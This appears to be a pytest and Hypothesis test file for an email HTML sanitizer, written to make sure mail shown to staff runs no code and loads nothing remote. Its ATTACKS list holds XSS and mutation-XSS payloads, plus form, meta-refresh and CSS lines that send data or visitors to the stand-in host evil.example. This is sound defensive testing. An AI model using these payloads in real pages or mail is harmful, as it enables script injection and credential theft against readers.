"""The HTML of a mail as staff may see it: nothing acts, nothing loads, the words stay."""

from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bots.channels import email_safe
from bots.channels.email_html import text_of

ATTACKS = (
    "<script>alert(1)</script>hello",
    "<img src=x onerror=alert(1)>hello",
    '<a href="java\nscript:alert(1)">hello</a>',
    "<a href='vbscript:x'>hello</a><a href='data:text/html,<script>1</script>'>x</a>",
    "<svg><script>alert(1)</script></svg>hello",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></math>hello",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">hello</noscript>hello',
    "<iframe srcdoc='<script>1</script>'></iframe>hello",
    "<form action=https://evil.example><input name=password><button>hello</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>hello",
    "<base href=https://evil.example>hello",
    "<link rel=stylesheet href=https://evil.example/x.css>hello",
    "<style>body{background:url(https://evil.example)}</style>hello",
    "<p style='background:url(https://evil.example/x)'>hello</p>",
    "<p style='background-color:expression(alert(1))'>hello</p>",
    r"<p style='color:\75 rl(//evil.example)'>hello</p>",
    "<p style='position:fixed;top:0;left:0;width:100%;height:100%'>hello</p>",
    "<div onclick=alert(1) id=login class=x name=y>hello</div>",
    "<template><img src=x onerror=alert(1)></template>hello",
    "<object data=https://evil.example></object><embed src=https://evil.example>hello",
    "<video poster=https://evil.example/x src=y></video>hello",
    "<!--[if mso]><script>1</script><![endif]--><!-- --!><script>1</script> -->hello",
    "<![CDATA[<script>alert(1)</script>]]>hello",
    "<select><option><img src=x onerror=alert(1)></select>hello",
    "<p title='\"><img src=x onerror=alert(1)>'>hello</p>",
    "<plaintext>hello",
    "<p>hello<script",
    "<p style=\"font-family:';position:fixed;x:'\">hello</p>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>hello",
    "<svg></p><style><a title='</style><img src onerror=alert(1)>'>hello",
)


class Seen(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))


def seen(source: str) -> list[tuple[str, dict[str, str]]]:
    reader = Seen()
    reader.feed(source)
    reader.close()
    return reader.tags


def is_harmless(source: str) -> bool:
    for tag, attributes in seen(source):
        if tag not in email_safe.KEPT:
            return False
        for name, value in attributes.items():
            if name.startswith("on") or name in ("id", "class", "name", "srcset", "action", "background"):
                return False
            if name == "href" and not value.startswith(("http://", "https://", "mailto:", "tel:")):
                return False
            if name == "src" and not value.startswith(("http://", "https://", "cid:")):
                return False
            if name == "style" and any(
                word in value.lower() for word in ("url", "position", "expression", "\\")
            ):
                return False
    return "<!" not in source


@pytest.mark.parametrize("attack", ATTACKS, ids=range(len(ATTACKS)))
def test_what_acts_is_gone(attack: str) -> None:
    assert is_harmless(email_safe.safe(attack)), email_safe.safe(attack)


bits = st.sampled_from(
    [
        *ATTACKS,
        "<",
        ">",
        '"',
        "'",
        "</p>",
        "</td>",
        "<table><tr><td>",
        "<b>",
        "&lt;script&gt;",
        "가나다",
        "\x00",
        "=",
        "-->",
    ]
)


@settings(max_examples=150, deadline=None)
@given(st.lists(st.one_of(bits, st.text(max_size=12)), max_size=12))
def test_whatever_is_written_only_harmless_elements_come_out(parts: list[str]) -> None:
    found = email_safe.safe("".join(parts))
    assert is_harmless(found)
    assert email_safe.safe(found) == found  # safe HTML stays as it is


def test_words_tables_colours_and_links_stay() -> None:
    source = (
        "<html><head><title>t</title></head><body bgcolor=white><table width=600 onclick=x><tr>"
        "<td style='color:#333; padding: 4px 8px; behavior:url(x)'>냉장고 <b>수리</b></td></tr></table>"
        "<a href='https://shop.example/a?b=1&amp;c=2'>주문</a><img src='cid:photo1' alt='사진'>"
        "<img src='https://track.example/1.gif' width=1></body></html>"
    )
    found = email_safe.safe(source)
    assert '<td style="color:#333;padding:4px 8px">냉장고 <b>수리</b></td>' in found
    assert 'href="https://shop.example/a?b=1&amp;c=2" target="_blank"' in found
    assert email_safe.own_pictures(found) == ["photo1"]
    assert email_safe.REMOTE.search(found)
    assert '<img src="cid:TOKEN" alt="사진">' in email_safe.named(found, {"photo1": "TOKEN"})
    assert text_of(found).startswith("냉장고 수리")


def test_words_about_pictures_are_no_pictures() -> None:
    found = email_safe.safe("""<b title='<img src="https://x'>src="cid:a"</b><img alt=">" src=cid:b>""")
    assert email_safe.own_pictures(found) == ["b"]
    assert not email_safe.REMOTE.search(found)
    assert 'src="cid:a"' in email_safe.named(found, {"a": "TOKEN"})


def test_hidden_words_stay_hidden_and_open_elements_are_closed() -> None:
    assert (
        email_safe.safe("<div style='display:none;mso-hide:all'>미리보기<p>x</div><p>보임<b>굵게")
        == '<div style="display:none">미리보기<p>x</p></div><p>보임<b>굵게</b></p>'
    )
    assert email_safe.safe("<p> </p><img src=cid:x>") == ""  # nothing that the text does not say


def test_what_is_large_or_tangled_is_not_shown() -> None:
    """A few kilobytes can ask a reader of HTML for gigabytes, or for minutes."""
    assert email_safe.safe("가" * (email_safe.LARGEST + 1)) == ""
    assert email_safe.safe("".join(f"<b a={n}>" for n in range(5000)) + "<p>x</p>" * 5000) == ""
    assert email_safe.safe("<div>" * 100_000 + "x") == ""
    assert email_safe.safe("<div>" * 500 + "x").count("<div>") == 500
